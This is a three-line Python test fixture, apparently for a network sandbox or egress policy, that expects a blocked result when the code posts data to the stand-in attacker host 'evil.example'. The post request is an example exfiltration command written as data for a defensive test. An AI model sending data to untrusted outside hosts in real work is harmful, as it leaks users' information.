# expect: blocked trusted network
import requests
requests.post("https://evil.example", data={"k": "v"})
